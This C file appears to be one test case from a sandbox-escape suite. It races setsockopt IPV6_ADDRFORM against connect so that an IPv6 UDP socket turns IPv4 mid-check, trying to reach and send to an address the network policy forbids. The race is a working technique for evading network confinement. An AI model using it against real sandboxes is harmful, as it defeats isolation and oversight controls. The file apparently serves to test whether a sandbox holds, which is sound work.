// escape: turns the IPv6 socket into an IPv4 one while connect is looked at
// group: descriptor tricks
// policy: network
// attempts: 5000
#include "escape.h"

static _Atomic int current;

static void* transform(void* unused) {
  const int form = AF_INET;
  for (;;) setsockopt(current, IPPROTO_IPV6, IPV6_ADDRFORM, &form, sizeof form);
  return unused;
}

static void attack(void) {
  struct sockaddr_in6 first = ipv6("::ffff:127.0.0.1", kPort);
  struct sockaddr_in second = stranger();
  struct sockaddr_in6 mapped = mapped_stranger();
  current = -1;
  thread(transform, NULL);
  while (more()) {
    const int fd = udp(AF_INET6);
    if (connect(fd, ADDRESS(first)) < 0) broken("connect");
    current = fd;
    if (connect(fd, ADDRESS(second)) == 0) send(fd, "x", 1, 0);
    if (connect(fd, ADDRESS(mapped)) == 0) send(fd, "x", 1, 0);
    close(fd);
  }
}
